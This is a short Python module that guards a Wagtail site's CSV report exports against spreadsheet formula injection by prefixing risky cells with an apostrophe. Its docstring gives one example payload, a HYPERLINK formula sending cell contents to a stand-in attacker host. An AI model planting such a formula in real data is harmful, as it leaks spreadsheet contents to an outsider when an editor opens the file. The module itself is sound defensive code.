"""Spreadsheet exports of text that visitors wrote (search queries, feedback comments).

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read as a
formula by spreadsheet programs, so a search for ``=HYPERLINK("http://evil.example/?"&A3)``
would run when an editor opens the export. Wagtail's XLSX export already stores such cells as
text; its CSV export writes them verbatim. Every admin report that exports CSV uses
``FormulaSafeExportMixin`` (before Wagtail's ``ReportView`` in the bases), which prefixes such
cells with an apostrophe, as OWASP recommends.
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_formula(value):
    """``value`` with a leading apostrophe if a spreadsheet would read it as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class FormulaSafeExportMixin:
    def write_csv_row(self, writer, row_dict):
        return writer.writerow(
            {
                field: neutralise_formula(self.preprocess_field_value(field, value, self.FORMAT_CSV))
                for field, value in row_dict.items()
            }
        )
